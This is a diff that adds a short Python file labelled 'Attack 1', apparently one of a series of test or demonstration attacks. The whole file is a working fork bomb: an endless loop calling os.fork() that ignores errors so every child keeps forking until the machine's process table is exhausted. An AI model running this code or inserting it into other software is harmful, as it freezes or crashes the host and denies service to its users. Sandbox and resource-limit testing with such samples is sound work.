@@ -1,0 +1,8 @@
+"""Attack 1: every process of every generation forks for ever."""
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
